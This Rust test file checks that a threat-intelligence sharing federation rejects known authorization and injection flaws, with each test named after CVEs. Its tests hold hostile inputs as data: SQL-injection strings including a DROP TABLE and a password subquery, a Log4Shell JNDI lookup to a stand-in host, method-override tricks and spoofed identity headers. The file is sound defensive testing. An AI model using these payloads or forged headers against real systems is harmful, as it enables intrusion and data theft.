//! Who was let through where the check was made elsewhere, or not at all.

use axum::body::Body;
use fanal_api::{CALLS, Method};
use fanal_desk::{NewAccount, ShareOrder};
use fanal_protocol::{BulletinId, Code, SightingVerdict, StreamName, json};
use fanal_tests::federation::{Forger, Node, Ordering as _, PARTS, green, says, share};
use http::{Request, header};
use http_body_util::BodyExt as _;
use serde_json::{Value, json};
use tower::ServiceExt as _;

use crate::cast::{three, two};

/// One request as it is, with this token and these headers.
async fn sends(
    node: &Node,
    method: &str,
    uri: &str,
    token: &str,
    headers: &[(&str, &str)],
    body: String,
) -> (u16, String) {
    let mut request = Request::builder().method(method).uri(uri);
    request = request.header(header::AUTHORIZATION, format!("Bearer {token}"));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let request = request.body(Body::from(body)).unwrap();
    let response = fanal_api::router(node.api())
        .oneshot(request)
        .await
        .unwrap();
    let status = response.status().as_u16();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    (status, String::from_utf8(bytes.to_vec()).unwrap())
}

/// "All organisations" in a group gave it to whom nobody meant. Here nothing in an audience stands for
/// everybody.
#[tokio::test]
async fn cve_2021_27904_no_word_of_an_audience_stands_for_all() {
    let fed = two().await;
    let [ancolie, lumbre] = fed.desks();
    for label in ["amber+strict", "amber", "green"] {
        for all in [
            "*",
            "all",
            "any",
            "everyone",
            "group:*",
            "group:all",
            "network",
            "lum*",
            "",
        ] {
            let order = share(label, "x.example").to(&[all]);
            let preview = ShareOrder {
                dry_run: true,
                ..order.clone()
            };
            let reaches = ancolie
                .try_share(preview)
                .await
                .map(|shared| shared.outlook.now);
            let nobody = reaches.as_ref().is_ok_and(Vec::is_empty);
            // GREEN without any name is the whole network: that is said, not slipped in.
            let unnamed = label == "green" && all.is_empty();
            assert!(
                reaches.is_err() || nobody || unnamed,
                "{label} to {all:?}: {reaches:?}"
            );
            if !unnamed {
                let _ = ancolie.try_share(order).await;
            }
        }
    }
    fed.sync_all().await;
    assert_eq!(lumbre.knows("x.example").await, 0);
}

/// Numbers of rows in what came from others overwrote what was somebody else's. Here whose it is belongs
/// to what it is: the same id of another desk is another bulletin.
#[tokio::test]
async fn cve_2021_31780_cve_2018_8949_the_same_id_of_another_desk_is_another_bulletin() {
    let fed = three().await;
    let [ancolie, lumbre, qasaba] = fed.desks();
    let name = StreamName::Green(fed.network);
    let now = fed.now();
    let first = says(ancolie, [4; 16], 1, name.clone(), now, green("Of ancolie"));
    let line = Forger::of(ancolie, name.clone(), &[first], now);
    qasaba
        .desk()
        .pull(fed.network, ancolie.id(), &line)
        .await
        .unwrap();
    let same = says(lumbre, [4; 16], 2, name.clone(), now, green("Of lumbre"));
    let line = Forger::of(lumbre, name, &[same], now);
    qasaba
        .desk()
        .pull(fed.network, lumbre.id(), &line)
        .await
        .unwrap();
    let id = BulletinId::from_random([4; 16]);
    for (desk, title) in [("ancolie", "Of ancolie"), ("lumbre", "Of lumbre")] {
        let shown = qasaba.shows(&format!("{desk}/{id}")).await.unwrap();
        assert_eq!(shown.line.title.as_deref(), Some(title));
    }
    let bare = qasaba.shows(&id.to_string()).await;
    assert_eq!(bare.err(), Some(Code::Conflict), "it does not say whose");
}

/// Half a decision: an audience without a distribution was taken. Here label and audience are one thing.
#[tokio::test]
async fn cve_2026_85533_half_a_marking_is_none() {
    for text in [
        r#"{"audience":{"desks":["lumbre"]}}"#,
        r#"{"audience":{"groups":["stalkerware"]}}"#,
        r#"{"label":""}"#,
        r#"{"label":4,"audience":{"desks":["lumbre"]}}"#,
        r#"{"label":"TLP:AMBER","audience":{"desks":["lumbre"]},"sharing_group_id":7}"#,
        r#"{"label":"TLP:AMBER","audience":["lumbre"]}"#,
    ] {
        assert!(
            json::read::<fanal_protocol::Marking>(text.as_bytes()).is_err(),
            "{text}"
        );
    }
    let fed = two().await;
    let [ancolie, _] = fed.desks();
    let unlabelled = json!({"content": "x.example", "to": ["lumbre"], "consent": "not-needed"});
    let answer = ancolie.asks("analyst", "share", &unlabelled).await;
    assert_eq!(answer.code(), Code::PolicyUnlabelled.as_str());
}

/// Checked for one verb, done for another. Here each call has one verb, and no other does anything.
#[tokio::test]
async fn cve_2026_95671_cve_2018_12649_cve_2020_8892_another_verb_is_no_way_round() {
    let fed = two().await;
    let [ancolie, _] = fed.desks();
    let id = ancolie
        .shares(share("green", "x.example").titled("A title to keep"))
        .await;
    let body =
        json!({"bulletin": id.to_string(), "reason": "error", "confirm": true, "title": "x"})
            .to_string();
    for call in CALLS {
        let own = match call.method {
            Method::Get => "GET",
            Method::Post => "POST",
        };
        let shared = |verb: &str| {
            CALLS.iter().any(|other| {
                other.path == call.path
                    && matches!(
                        (other.method, verb),
                        (Method::Get, "GET") | (Method::Post, "POST")
                    )
            })
        };
        for verb in ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"] {
            if verb == own || shared(verb) {
                continue;
            }
            let overrides = [("x-http-method-override", own), ("x-method-override", own)];
            let token = ancolie.token("analyst");
            let (status, text) =
                sends(ancolie, verb, call.path, token, &overrides, body.clone()).await;
            assert!(
                (400..500).contains(&status),
                "{verb} {}: {status}",
                call.path
            );
            assert!(!text.contains("A title to keep"), "{verb} {}", call.path);
        }
    }
    assert!(ancolie.holds(id).await);
}

/// Asked about one thing, done to another. Here an approval names exactly what was read, and an order
/// names one bulletin.
#[tokio::test]
async fn cve_2026_56424_cve_2026_56423_cve_2026_85538_leave_for_one_is_no_leave_for_another() {
    let fed = two().await;
    let [ancolie, _] = fed.desks();
    let one = ancolie
        .shares(share("clear", "one.example").consent("public"))
        .await;
    let other = ancolie
        .shares(share("clear", "other.example").consent("public"))
        .await;
    let reviewer = ancolie.caller("reviewer").await;
    let read = ancolie
        .desk()
        .show_review(&reviewer, one)
        .await
        .unwrap()
        .draft;
    let crossed = ancolie.desk().approve(&reviewer, other, read).await;
    assert_eq!(
        crossed.map(drop).map_err(|no| no.code()),
        Err(Code::Conflict)
    );
    assert!(!ancolie.shelf().await.contains("other.example"));
    ancolie.desk().approve(&reviewer, one, read).await.unwrap();
    let shelf = ancolie.shelf().await;
    assert!(shelf.contains("one.example") && !shelf.contains("other.example"));
    for many in [
        json!([one.to_string(), other.to_string()]),
        json!("*"),
        json!(""),
    ] {
        let body = json!({"bulletin": many, "reason": "error", "confirm": true});
        assert_eq!(
            ancolie.asks("analyst", "withdraw", &body).await.status,
            400,
            "{body}"
        );
    }
}

/// What hangs on something (a sighting, a report, a reference) was shown without asking about what it
/// hangs on.
#[tokio::test]
async fn cve_2026_94394_cve_2026_95683_cve_2026_112178_cve_2019_9482_what_hangs_on_it_goes_no_further()
 {
    let fed = three().await;
    let [ancolie, lumbre, qasaba] = fed.desks();
    let id = ancolie
        .shares(share("amber", "a.example").to(&["lumbre"]))
        .await;
    fed.sync_all().await;
    let reference = format!("ancolie/{id}");
    lumbre
        .sights(&reference, SightingVerdict::FalsePositive)
        .await
        .unwrap();
    fed.sync_all().await;
    ancolie.withdraws(&id.to_string()).await;
    fed.sync_all().await;
    let id = id.to_string();
    for from in [ancolie, lumbre] {
        let served = from.serves(qasaba).await.unwrap();
        assert!(!served.text.contains(&id), "{} tells of it", from.id());
    }
    assert!(!qasaba.everything().await.contains(&id));
    for part in ["coordinator", "admin"] {
        for name in ["show", "withdrawal", "explain", "list"] {
            let body = match name {
                "list" => json!({"withdrawn": true}),
                _ => json!({ "bulletin": reference }),
            };
            let answer = lumbre.asks(part, name, &body).await;
            assert!(
                !answer.text.contains("receipts") && !answer.text.contains("TLP:AMBER"),
                "{part} {name}: {}",
                answer.text
            );
        }
    }
}

/// Joining by value told of what one may not read.
#[tokio::test]
async fn cve_2020_14969_cve_2026_85226_joining_by_value_joins_what_one_may_read() {
    let fed = three().await;
    let [ancolie, lumbre, qasaba] = fed.desks();
    ancolie
        .shares(share("amber", "same.example").to(&["lumbre"]))
        .await;
    fed.sync_all().await;
    lumbre
        .shares(ShareOrder {
            independent_source: Some("our own".into()),
            ..share("green", "same.example")
        })
        .await;
    fed.sync_all().await;
    assert_eq!(lumbre.knows("same.example").await, 2);
    assert_eq!(qasaba.knows("same.example").await, 1);
    let body = json!({"values": ["same.example", "www.same.example"]});
    let told = lumbre.asks("coordinator", "check", &body).await.json();
    let found: Vec<&Value> = told["data"]["known"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|known| known["found"].as_array().unwrap())
        .collect();
    assert!(!found.is_empty());
    for one in found {
        assert_eq!(
            (&one["label"], &one["origin"]),
            (&json!("TLP:GREEN"), &json!("lumbre"))
        );
    }
    let told = lumbre.asks("admin", "check", &body).await.json();
    assert_eq!(told["data"]["hits"], 0);
}

/// Read again by its id, without asking. Here what one may not read is answered as what is not there.
#[tokio::test]
async fn cve_2026_86283_an_id_alone_opens_nothing() {
    let fed = two().await;
    let [ancolie, lumbre] = fed.desks();
    let held = ancolie
        .shares(share("amber", "a.example").to(&["lumbre"]))
        .await;
    fed.sync_all().await;
    let unknown = BulletinId::from_random([9; 16]);
    for node in [ancolie, lumbre] {
        for part in ["coordinator", "admin"] {
            for call in CALLS.iter().filter(|call| call.name != "sign-out") {
                let ask = async |id: BulletinId| {
                    let id = id.to_string();
                    let bodies = [
                        json!({ "bulletin": format!("ancolie/{id}") }),
                        json!({ "bulletin": id }),
                        json!({ "id": id }),
                        json!({ "bulletin": id, "stance": "use" }),
                        json!({ "bulletin": id, "verdict": "seen" }),
                        json!({ "bulletin": id, "reason": "error" }),
                        json!({ "bulletin": id, "format": "csv" }),
                    ];
                    let mut told = String::new();
                    for body in bodies {
                        let answer = node.asks(part, call.name, &body).await;
                        told += &answer.text.replace(&id, "ID");
                    }
                    told
                };
                // What changes with each call is not what is asked here.
                if !["token", "status", "list", "audit", "accounts"].contains(&call.name) {
                    assert_eq!(
                        ask(held).await,
                        ask(unknown).await,
                        "{part} of {}: {}",
                        node.id(),
                        call.name
                    );
                }
            }
        }
    }
}

/// A typing error in a list of who may call what let everybody in. Here the use case takes the right:
/// an account without any gets nothing from any call.
#[tokio::test]
async fn cve_2026_95685_cve_2026_95805_cve_2026_76822_an_account_without_rights_gets_nothing() {
    let fed = two().await;
    let [ancolie, _] = fed.desks();
    let id = ancolie
        .shares(share("green", "x.example").titled("A title"))
        .await
        .to_string();
    let admin = ancolie.caller("admin").await;
    let new = NewAccount {
        name: "nobody".into(),
        rights: std::collections::BTreeSet::new(),
        password: Some("a password of nobody".into()),
    };
    ancolie.desk().add_account(&admin, &new).await.unwrap();
    let token = ancolie
        .desk()
        .issue_local_token("nobody")
        .await
        .unwrap()
        .token;
    for call in CALLS.iter().filter(|call| call.name != "sign-out") {
        for body in [
            json!({}),
            json!({"bulletin": id}),
            json!({"id": id}),
            json!({"values": ["x.example"]}),
        ] {
            let answer = ancolie
                .asks_with(Some(&token), call.name, body.to_string())
                .await;
            for told in ["A title", "x.example", "bulletin.share", "ancolie-analyst"] {
                assert!(
                    !answer.text.contains(told),
                    "{}: {}",
                    call.name,
                    answer.text
                );
            }
        }
    }
}

/// A header made the server trust what came with it. Here no header but the token means anything.
#[tokio::test]
async fn pysec_2026_3445_no_header_widens_anything() {
    let fed = two().await;
    let [ancolie, _] = fed.desks();
    let id = ancolie
        .shares(share("amber", "a.example").to(&["lumbre"]))
        .await
        .to_string();
    let trusted = [
        ("synchronized-upsert", "true"),
        ("opencti-synchronized-upsert", "true"),
        ("x-forwarded-for", "127.0.0.1"),
        ("x-real-ip", "127.0.0.1"),
        ("x-forwarded-user", "ancolie-analyst"),
        ("x-remote-user", "ancolie-analyst"),
        ("x-pgp-signature", "x"),
        ("cookie", "session=ancolie-analyst"),
        ("x-original-url", "/api/v1/status"),
        ("forwarded", "for=127.0.0.1"),
    ];
    for part in ["coordinator", "admin"] {
        let token = ancolie.token(part);
        for (path, body) in [
            ("/api/v1/bulletin", json!({ "bulletin": id })),
            ("/api/v1/bulletins", json!({"withdrawn": true})),
            ("/api/v1/export", json!({"format": "csv", "up_to": "red"})),
        ] {
            let body = body.to_string();
            let plain = sends(ancolie, "POST", path, token, &[], body.clone()).await;
            let with = sends(ancolie, "POST", path, token, &trusted, body).await;
            assert_eq!(with, plain, "{part} {path}");
        }
    }
    let (status, _) = sends(
        ancolie,
        "GET",
        "/api/v1/status",
        "x",
        &trusted,
        String::new(),
    )
    .await;
    assert_eq!(status, 401);
}

/// Secrets and search words in addresses, which end in logs. Here an address has none, and whatever is
/// put there means nothing.
#[tokio::test]
async fn cve_2026_114505_an_address_holds_no_secret_and_no_search_word() {
    let fed = two().await;
    let [ancolie, _] = fed.desks();
    let token = ancolie.token("analyst").to_owned();
    for name in ["token", "access_token", "authkey", "api_key", "bearer"] {
        let uri = format!("/api/v1/status?{name}={token}");
        let (status, _) = sends(ancolie, "GET", &uri, "", &[], String::new()).await;
        assert_eq!(status, 401, "{name}");
    }
    for call in CALLS {
        assert!(!call.path.contains(['?', '{', ':', '*']), "{}", call.path);
    }
}

/// Search filters were run as programs. Here they are values.
#[tokio::test]
async fn cve_2026_35211_what_is_searched_for_is_no_program() {
    let fed = two().await;
    let [ancolie, _] = fed.desks();
    ancolie.shares(share("green", "x.example")).await;
    let evil = [
        "x' OR '1'='1",
        "x\"; DROP TABLE bulletins; --",
        "%",
        "_",
        "{\"$gt\":\"\"}",
        "${jndi:ldap://x.example/a}",
        "'||(SELECT password FROM accounts)||'",
    ];
    for text in evil {
        for field in ["state", "label", "origin", "folder"] {
            let answer = ancolie
                .asks("analyst", "list", &json!({ field: text }))
                .await;
            assert_eq!(answer.status, 400, "{field} {text}: {}", answer.text);
        }
        let answer = ancolie
            .asks("analyst", "check", &json!({ "values": [text] }))
            .await
            .json();
        assert_eq!(answer["data"]["hits"], 0, "{text}");
        let shown = ancolie
            .asks("analyst", "show", &json!({ "bulletin": text }))
            .await;
        assert!((400..500).contains(&shown.status), "{text}: {}", shown.text);
    }
    assert_eq!(ancolie.knows("x.example").await, 1);
    for (part, _) in PARTS {
        assert_eq!(ancolie.asks(part, "status", &Value::Null).await.status, 200);
    }
}
